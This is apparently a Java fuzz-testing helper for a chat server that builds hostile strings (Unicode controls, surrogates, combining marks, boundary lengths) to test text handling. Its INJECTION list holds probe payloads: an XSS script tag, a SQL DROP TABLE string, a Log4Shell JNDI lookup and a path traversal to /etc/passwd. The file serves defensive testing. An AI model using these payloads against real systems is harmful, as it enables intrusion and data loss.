package io.chillin.chat.server.fuzz;

import java.util.List;
import java.util.SplittableRandom;

/**
 * Strings that break text handling: zero-width and bidi controls, combining marks, emoji sequences, NUL and other
 * control characters, lone surrogates (the JSON writer escapes them, a text frame cannot carry them raw), other
 * scripts, injection-looking text, and lengths on either side of every limit of PROTOCOL.md.
 */
final class HostileText {

    static final List<String> ZERO_WIDTH = List.of("\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF");
    static final List<String> BIDI = List.of("\u202E", "\u202D", "\u202A", "\u202B", "\u202C", "\u2066", "\u2067",
            "\u2068", "\u2069", "\u200E", "\u200F", "\u061C");
    static final List<String> COMBINING = List.of("\u0301", "\u0308", "\u20DD", "\u0489", "\u0345", "\u1AB0");
    static final List<String> EMOJI = List.of("\uD83D\uDE00", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "\uD83C\uDDFA\uD83C\uDDF3", "\uD83D\uDC4D\uD83C\uDFFD", "1\uFE0F\u20E3", "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
            "\u2764\uFE0F", "\uD83E\uDEE0");
    static final List<String> CONTROLS = List.of("\u0000", "\u0001", "\u0007", "\b", "\u001B", "\u007F", "\u0085",
            "\u009B", "\t", "\n", "\r", "\f", "\u000B", "\u001F");
    static final List<String> SEPARATORS = List.of("\u2028", "\u2029", "\u00A0", "\u3000", "\u1680", "\u2007",
            "\u202F", "\u180E");
    static final List<String> LONE_SURROGATES = List.of("\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDC00\uD800",
            "a\uD83D", "\uDE00b");
    static final List<String> NON_CHARACTERS = List.of("\uFFFE", "\uFFFF", "\uDBFF\uDFFF", "\uFDD0", "\uFFFD",
            "\uE000", "\uF8FF", "\uDB80\uDC00");
    static final List<String> SCRIPTS = List.of("\u0645\u0631\u062D\u0628\u0627", "\u05E9\u05DC\u05D5\u05DD",
            "\u4F60\u597D", "\u0928\u092E\u0938\u094D\u0924\u0947", "\u0E2A\u0E27\u0E31\u0E2A\u0E14\u0E35",
            "\u03A9\u03BC\u03AD\u03B3\u03B1", "\u041F\u0440\u0438\u0432\u0435\u0442", "\u0130\u0131", "\u00DF",
            "\uFB01", "\u01C5", "\u212B", "A\u030A", "\uFF11\uFF12\uFF13", "\u0661\u0662\u0663", "\uD835\uDC00",
            "\uD800\uDF48", "\u1100\u1161\u11A8", "\u00E9", "e\u0301");
    static final List<String> INJECTION = List.of("<script>alert(1)</script>", "'; DROP TABLE messages; --",
            "%s%n%x%p", "${jndi:ldap://x/a}", "../../etc/passwd", "{\"type\":\"join\"}", "\\", "\"", "null",
            "undefined", "__proto__", "constructor", "\\u0000", "%00", "&#0;", "\u00C3\u00A9", "Robert'); --",
            "system", "system-1");
    private static final List<List<String>> KINDS = List.of(ZERO_WIDTH, BIDI, COMBINING, EMOJI, CONTROLS, SEPARATORS,
            LONE_SURROGATES, NON_CHARACTERS, SCRIPTS, INJECTION);
    private static final int[] BOUNDARIES = {2, 3, 20, 21, 29, 30, 31, 63, 64, 65, 128, 129, 199, 200, 201, 499, 500,
            501, 1023, 1024, 1025, 3000};
    private static final String ASCII = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-. ";

    private HostileText() {
    }

    /** Any hostile string: empty, blank, a mix of odd pieces, a boundary length, or a plain word. */
    static String any(SplittableRandom r) {
        int pick = r.nextInt(100);
        if (pick < 4) {
            return "";
        }
        if (pick < 9) {
            return blank(r);
        }
        if (pick < 55) {
            return mixed(r, 1 + r.nextInt(8));
        }
        if (pick < 70) {
            return atLength(r, BOUNDARIES[r.nextInt(BOUNDARIES.length)]);
        }
        if (pick < 80) {
            return zalgo(r);
        }
        return word(r, 1 + r.nextInt(24));
    }

    /** White space only, of kinds JSON, Java's strip() and the domain disagree about. */
    static String blank(SplittableRandom r) {
        StringBuilder s = new StringBuilder();
        int n = 1 + r.nextInt(4);
        for (int i = 0; i < n; i++) {
            s.append(r.nextBoolean() ? " " : pick(r, r.nextBoolean() ? SEPARATORS : List.of("\t", "\n", "\r", "\u000B")));
        }
        return s.toString();
    }

    /** Plain words with odd pieces between them. */
    static String mixed(SplittableRandom r, int pieces) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < pieces; i++) {
            s.append(r.nextInt(3) == 0 ? word(r, 1 + r.nextInt(8)) : piece(r));
        }
        return s.toString();
    }

    /** One odd piece: a zero-width or bidi control, a combining mark, an emoji, a control, a lone surrogate... */
    static String piece(SplittableRandom r) {
        return pick(r, KINDS.get(r.nextInt(KINDS.size())));
    }

    /** Exactly this many code points (a lone surrogate counting as one), built from odd pieces or plain letters. */
    static String atLength(SplittableRandom r, int codePoints) {
        StringBuilder s = new StringBuilder();
        boolean plain = r.nextInt(3) == 0;
        String unit = plain ? word(r, 1) : pick(r, r.nextBoolean() ? EMOJI : SCRIPTS);
        while (s.codePointCount(0, s.length()) < codePoints) {
            s.append(r.nextInt(8) == 0 ? piece(r) : unit);
        }
        return s.substring(0, s.offsetByCodePoints(0, codePoints));
    }

    /** A letter buried under combining marks. */
    static String zalgo(SplittableRandom r) {
        StringBuilder s = new StringBuilder(word(r, 1 + r.nextInt(3)));
        int marks = 1 + r.nextInt(r.nextBoolean() ? 8 : 200);
        for (int i = 0; i < marks; i++) {
            s.append(pick(r, COMBINING));
        }
        return s.toString();
    }

    /** The text with every lone surrogate replaced, so that it can go into a text frame as it is. */
    static String sendable(String s) {
        StringBuilder out = new StringBuilder(s.length());
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
                out.append(c).append(s.charAt(++i));
            } else {
                out.append(Character.isSurrogate(c) ? '\uFFFD' : c);
            }
        }
        return out.toString();
    }

    static String word(SplittableRandom r, int length) {
        StringBuilder s = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            s.append(ASCII.charAt(r.nextInt(ASCII.length())));
        }
        return s.toString();
    }

    static <T> T pick(SplittableRandom r, List<T> from) {
        return from.get(r.nextInt(from.size()));
    }
}
